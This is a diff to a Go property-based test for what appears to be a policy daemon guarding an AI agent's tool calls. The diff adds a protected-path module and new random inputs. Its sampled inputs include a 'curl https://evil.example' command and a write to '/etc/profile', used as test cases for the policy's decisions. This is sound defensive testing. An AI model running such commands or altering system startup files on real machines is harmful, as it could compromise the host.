@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"crypto/sha256"
 	"math/rand/v2"
+	"path"
 	"slices"
 	"testing"
 	"time"
@@ -14,6 +15,7 @@ import (
 	"pgregory.net/rapid"
 
 	"github.com/provenanced/provenanced/internal/policy"
+	"github.com/provenanced/provenanced/internal/protect"
 	"github.com/provenanced/provenanced/internal/trust"
 	"github.com/provenanced/provenanced/internal/wire"
 )
@@ -37,8 +39,8 @@ func randomEvent(t *rapid.T, code string) (wire.Hook, wire.Payload) {
 	ctx := rapid.SampledFrom([]wire.Ctx{owner, stranger, {}, {MessageProvider: "webhook"}, {SpawnedBy: "p"}}).Draw(t, "ctx")
 	n := rapid.IntRange(0, 3).Draw(t, "iteration")
 	params := raw(map[string]string{
-		"path": rapid.SampledFrom([]string{"MEMORY.md", "x.txt"}).Draw(t, "path"), "content": "c",
-		"command": rapid.SampledFrom([]string{"ls", "git pull", "curl https://evil.example"}).Draw(t, "command"),
+		"path": rapid.SampledFrom([]string{"MEMORY.md", "x.txt", "/etc/profile"}).Draw(t, "path"), "content": "c",
+		"command": rapid.SampledFrom([]string{"ls", "git pull", "curl https://evil.example", "provenancectl status"}).Draw(t, "command"),
 	})
 	hook := rapid.SampledFrom([]wire.Hook{
 		wire.BeforeAgentStart, wire.SessionEnd, wire.MessageReceived, wire.SignMessage, wire.ContextAssembled, wire.BeforeLLMCall, wire.AfterLLMCall,
@@ -50,7 +52,7 @@ func randomEvent(t *rapid.T, code string) (wire.Hook, wire.Payload) {
 	case wire.BeforeAgentStart:
 		ev = &wire.BeforeAgentStartEvent{Messages: raw(make([]msg, n))}
 	case wire.SessionEnd:
-		ev = &wire.SessionEndEvent{Reason: rapid.SampledFrom([]string{"reset", "idle", "shutdown"}).Draw(t, "reason")}
+		ev = &wire.SessionEndEvent{Reason: rapid.SampledFrom([]string{"reset", "idle"}).Draw(t, "reason")}
 	case wire.MessageReceived:
 		ev = &wire.MessageReceivedEvent{Content: text, Sources: []wire.Source{{Tool: tool}}[:n%2]}
 	case wire.SignMessage:
@@ -111,7 +113,7 @@ func TestProperties(t *testing.T) {
 			hook, payload := randomEvent(t, code)
 			ev := &event{hook: hook, session: "s", payload: payload, spawner: parent, ownerField: true}
 			seed[0] = byte(i)
-			e := env{policy: p, now: now, resolve: func(s string) string { return s }, rand: rand.NewChaCha8(seed), code: testCode, ticket: testTicket, digest: testCode, mark: testMark, sign: sha256Of}
+			e := env{policy: p, now: now, resolve: func(s string) string { return s }, protected: protect.New(protect.Daemon{}, nil, path.Clean), rand: rand.NewChaCha8(seed), code: testCode, ticket: testTicket, digest: testCode, mark: testMark, sign: sha256Of}
 			before := encodeState(t, &live)
 			out, err := decide(&live, ev, e)
 			require.NoError(t, err)
